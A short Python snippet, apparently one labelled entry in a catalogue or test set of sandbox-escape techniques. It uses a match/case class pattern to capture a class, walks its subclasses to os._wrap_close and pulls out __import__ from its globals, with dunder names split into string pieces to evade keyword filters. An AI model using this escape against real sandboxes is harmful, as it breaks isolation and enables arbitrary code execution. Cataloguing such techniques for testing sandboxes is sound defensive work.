# kind: capability
# A class pattern reads attributes by keyword.
match ():
    case object(__class__=cls):
        pass
for c in getattr(getattr(cls, "__ba" + "se__"), "__subcl" + "asses__")():
    if str(c) == "<class 'os._wrap_close'>":
        payload(getattr(getattr(c, "__in" + "it__"), "__glo" + "bals__")["__builtins__"]["__import__"])
